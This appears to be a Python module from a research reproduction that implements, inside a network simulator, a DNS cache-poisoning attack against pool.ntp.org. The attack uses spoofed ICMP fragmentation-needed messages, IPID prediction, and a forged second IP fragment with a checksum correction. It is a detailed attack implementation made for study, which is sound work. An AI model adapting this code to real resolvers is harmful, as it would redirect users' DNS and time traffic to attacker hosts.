"""DNS cache poisoning by replacing the second fragment (paper section III).

The attack proceeds in five steps, all implemented here:

1. **Learn the response template.**  The attacker queries the target
   nameserver itself for the victim domain and records the response.  This
   reveals the response's size, its record layout and the content of the
   portion that will end up in the second fragment (for responses with a
   predictable tail).  The challenge-response values of the *victim's* query
   — UDP source port and DNS TXID — are never needed because they live in
   the first fragment, which the attacker does not touch.
2. **Force fragmentation.**  A spoofed ICMP "fragmentation needed" message
   makes the nameserver believe the path MTU towards the victim resolver is
   small, so subsequent responses to the resolver are sent in fragments.
3. **Predict the IPID.**  The attacker samples the nameserver's IPID counter
   with its own queries and extrapolates the values that will be used for
   the response to the resolver (spraying a window of candidates bounded by
   the resolver's pending-fragment limit).
4. **Craft and plant the spoofed second fragment.**  The desired response is
   the template with the A-record addresses rewritten to attacker addresses;
   the fragment's ones'-complement sum is patched back to the original's by
   adjusting a TTL low half (see :mod:`repro.core.checksum_fix`).  One copy
   per candidate IPID is injected into the resolver's defragmentation cache
   and refreshed every ``refresh_interval`` (fragments expire after 30 s on
   Linux), so at most ``ceil(150 / 30) = 5`` fragments per TTL window are
   needed — the "low attack volume" property of section IV-A.
5. **Wait for the query.**  When the resolver's query reaches the
   nameserver, the genuine first fragment reassembles with the planted
   fragment, the UDP checksum verifies, and the resolver caches the
   attacker's records for ``pool.ntp.org``.  The planted fragment is
   refreshed until the query comes; the paper's alternative of triggering
   it through a shared or open resolver is not modelled.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.checksum_fix import craft_matching_fragment
from repro.core.ipid_prediction import IPIDPredictor, IPIDPrediction
from repro.dns.message import DNSMessage, record_offsets
from repro.dns.records import RRType
from repro.netsim.addresses import ip_to_int
from repro.netsim.icmp import frag_needed
from repro.netsim.packet import IPProtocol, IPV4_HEADER_LEN, IPv4Packet
from repro.netsim.simulator import Simulator
from repro.netsim.udp import UDP_HEADER_LEN

#: Fragment reassembly timeout on Linux (paper section IV-A): planted
#: fragments must be refreshed at least this often.
LINUX_REASSEMBLY_TIMEOUT = 30.0


@dataclass
class PoisoningPlan:
    """Parameters of one poisoning campaign."""

    resolver_ip: str
    nameserver_ip: str
    qname: str = "pool.ntp.org"
    malicious_addresses: list[str] = field(default_factory=list)
    #: MTU advertised to the nameserver; smaller values move more of the
    #: answer section into the attacker-controlled second fragment.
    target_mtu: int = 296
    #: TTL written into the spoofed records (long TTLs are what break
    #: Chronos' pool generation).
    poisoned_ttl: Optional[int] = None
    #: How often the planted fragment is refreshed.  Re-sending a fragment
    #: for a reassembly queue that already exists does not reset the queue's
    #: timer (kernel behaviour), so the effective strategy is to plant a new
    #: copy every ``timeout`` seconds; the IPID probe that precedes each
    #: plant leaves a ~1 s uncovered window per cycle, which is why the
    #: paper's low-volume variant needs a handful of attempts rather than
    #: exactly one.
    refresh_interval: float = LINUX_REASSEMBLY_TIMEOUT
    ipid_candidates: int = 16
    ipid_probe_queries: int = 4
    max_duration: float = 600.0
    #: Whether to also rewrite glue A records in the additional section.
    rewrite_glue: bool = True


@dataclass
class PoisoningOutcome:
    """Result of a poisoning campaign."""

    success: bool
    started_at: float
    finished_at: float
    fragments_sent: int
    refreshes: int
    template_learned: bool
    ipid_prediction: Optional[IPIDPrediction] = None


class DNSFragmentPoisoner:
    """Runs one defragmentation-cache poisoning campaign."""

    def __init__(
        self,
        attacker: Attacker,
        simulator: Simulator,
        plan: PoisoningPlan,
        success_check: Optional[Callable[[], bool]] = None,
        on_finished: Optional[Callable[[PoisoningOutcome], None]] = None,
    ) -> None:
        self.attacker = attacker
        self.simulator = simulator
        self.plan = plan
        #: Ground-truth success predicate supplied by the experiment harness
        #: (e.g. "is the resolver cache poisoned?").  A real attacker would
        #: instead verify by querying the resolver.
        self.success_check = success_check
        self.on_finished = on_finished
        self.template_payload: Optional[bytes] = None
        self.prediction: Optional[IPIDPrediction] = None
        self.fragments_sent = 0
        self.refreshes = 0
        self.started_at = 0.0
        self.finished = False
        self._refresh_event = None
        self._predictor: Optional[IPIDPredictor] = None

    # ----------------------------------------------------------- life cycle
    def start(self) -> None:
        """Run the full campaign: probe, learn, force fragmentation, plant."""
        self.started_at = self.simulator.now
        self._predictor = IPIDPredictor(
            self.attacker.query_host,
            self.simulator,
            self.plan.nameserver_ip,
            probe_name=self.plan.qname,
        )
        self.attacker.stats.own_queries_sent += self.plan.ipid_probe_queries
        self._predictor.probe(
            count=self.plan.ipid_probe_queries, on_done=self._on_prediction
        )

    def _on_prediction(self, prediction: IPIDPrediction) -> None:
        self.prediction = prediction
        self._learn_template(self._on_template)

    def _learn_template(self, callback: Callable[[Optional[bytes]], None]) -> None:
        """Query the nameserver directly to learn the response bytes."""
        socket = self.attacker.query_host.bind(0)
        state = {"done": False}

        def finish(payload: Optional[bytes]) -> None:
            if state["done"]:
                return
            state["done"] = True
            socket.close()
            callback(payload)

        def on_datagram(payload: bytes, src_ip: str, src_port: int) -> None:
            if src_ip == self.plan.nameserver_ip and src_port == 53:
                finish(payload)

        socket.on_datagram = on_datagram
        query = DNSMessage.query(self.plan.qname, txid=0x5555)
        self.attacker.stats.own_queries_sent += 1
        socket.sendto(query.encode(), self.plan.nameserver_ip, 53)
        self.simulator.schedule(5.0, lambda: finish(None), label="template-timeout")

    def _on_template(self, payload: Optional[bytes]) -> None:
        self.template_payload = payload
        if payload is None:
            self._finish(False)
            return
        self.force_fragmentation()
        self._plant_round()

    # ------------------------------------------------------------ the steps
    def force_fragmentation(self) -> None:
        """Send the spoofed ICMP fragmentation-needed message (step 2)."""
        message = frag_needed(self.plan.target_mtu)
        message.metadata["about_destination"] = self.plan.resolver_ip
        self.attacker.stats.icmp_errors_sent += 1
        self.attacker.query_host.send_icmp(self.plan.nameserver_ip, message)

    def first_fragment_payload_length(self) -> int:
        """IP-payload bytes carried by the first fragment at the target MTU."""
        return (self.plan.target_mtu - IPV4_HEADER_LEN) & ~0x7

    def build_spoofed_payload(self) -> Optional[tuple[bytes, int]]:
        """Craft the spoofed second-fragment payload.

        Returns ``(payload, fragment_offset_units)`` or None when the
        template response would not fragment at the target MTU (nothing to
        replace) or when no attacker-rewritable field lies in the second
        fragment.
        """
        if self.template_payload is None:
            return None
        template_dns = self.template_payload
        boundary = self.first_fragment_payload_length()
        udp_template = b"\x00" * UDP_HEADER_LEN + template_dns
        if len(udp_template) <= boundary:
            return None

        desired_dns, adjustable = self._rewrite_records(template_dns)
        udp_desired = b"\x00" * UDP_HEADER_LEN + desired_dns
        original_f2 = udp_template[boundary:]
        desired_f2 = udp_desired[boundary:]
        adjustable_in_f2 = [
            offset + UDP_HEADER_LEN - boundary
            for offset in adjustable
            if offset + UDP_HEADER_LEN >= boundary
        ]
        try:
            spoofed_f2 = craft_matching_fragment(original_f2, desired_f2, adjustable_in_f2)
        except ValueError:
            return None
        return spoofed_f2, boundary // 8

    def _rewrite_records(self, template_dns: bytes) -> tuple[bytes, list[int]]:
        """Rewrite A-record addresses in the template; report sacrificial offsets.

        Only rdata bytes that lie entirely in the second fragment can change
        (the first fragment is the nameserver's).  Returns the rewritten DNS
        payload plus the offsets (within the DNS payload) of TTL low halves
        belonging to rewritten records, which may absorb the checksum
        correction.
        """
        boundary_in_dns = self.first_fragment_payload_length() - UDP_HEADER_LEN
        rewritten = bytearray(template_dns)
        adjustable: list[int] = []
        addresses = list(self.plan.malicious_addresses) or self.attacker.redirect_addresses(4)
        address_index = 0
        for record in record_offsets(template_dns):
            if record.rtype is not RRType.A or record.rdlength != 4:
                continue
            if record.section == "authority":
                continue
            if record.section == "additional" and not self.plan.rewrite_glue:
                continue
            if record.rdata_offset < boundary_in_dns:
                continue  # address (partially) in the first fragment: untouchable
            address = addresses[address_index % len(addresses)]
            address_index += 1
            rewritten[record.rdata_offset : record.rdata_offset + 4] = ip_to_int(
                address
            ).to_bytes(4, "big")
            if self.plan.poisoned_ttl is not None and record.ttl_offset >= boundary_in_dns:
                rewritten[record.ttl_offset : record.ttl_offset + 4] = self.plan.poisoned_ttl.to_bytes(4, "big")
            if record.ttl_low_offset >= boundary_in_dns:
                adjustable.append(record.ttl_low_offset)
        return bytes(rewritten), adjustable

    def _plant_round(self) -> None:
        """Refresh the IPID estimate, then plant fragments (step 3 + 4)."""
        if self.finished:
            return
        if self._check_success():
            return
        if self.simulator.now - self.started_at > self.plan.max_duration:
            self._finish(False)
            return
        # Re-sample the IPID counter each round: the prediction must reflect
        # whatever traffic the nameserver served since the last round.
        self.attacker.stats.own_queries_sent += 1
        self._predictor.probe(count=1, interval=0.2, on_done=self._plant_with_prediction)

    def _plant_with_prediction(self, prediction: IPIDPrediction) -> None:
        """Inject one spoofed fragment per candidate IPID (step 4)."""
        if self.finished:
            return
        self.prediction = prediction
        crafted = self.build_spoofed_payload()
        if crafted is not None and self.prediction is not None:
            payload, offset_units = crafted
            # One spoofed fragment per candidate IPID, each injected as its
            # own packet (fragments take the resolver's reassembly path).
            candidates = self.prediction.candidates(
                self.plan.ipid_candidates, lookahead=0.0
            )
            self.attacker.stats.spoofed_fragments_sent += len(candidates)
            self.fragments_sent += len(candidates)
            for ipid in candidates:
                self.attacker.inject(
                    IPv4Packet(
                        src=self.plan.nameserver_ip,
                        dst=self.plan.resolver_ip,
                        protocol=IPProtocol.UDP,
                        payload=payload,
                        ipid=ipid,
                        more_fragments=False,
                        fragment_offset=offset_units,
                    )
                )
        self.refreshes += 1
        self._refresh_event = self.simulator.schedule(
            self.plan.refresh_interval, self._plant_round, label="poisoner-refresh"
        )

    # -------------------------------------------------------------- helpers
    def _check_success(self) -> bool:
        if self.success_check is not None and self.success_check():
            self._finish(True)
            return True
        return False

    def _finish(self, success: bool) -> None:
        if self.finished:
            return
        self.finished = True
        if self._refresh_event is not None:
            self._refresh_event.cancel()
        outcome = PoisoningOutcome(
            success=success,
            started_at=self.started_at,
            finished_at=self.simulator.now,
            fragments_sent=self.fragments_sent,
            refreshes=self.refreshes,
            template_learned=self.template_payload is not None,
            ipid_prediction=self.prediction,
        )
        if self.on_finished is not None:
            self.on_finished(outcome)

    def stop(self) -> None:
        """Abort the campaign (deciding success from the ground-truth check)."""
        self._finish(self.success_check() if self.success_check else False)
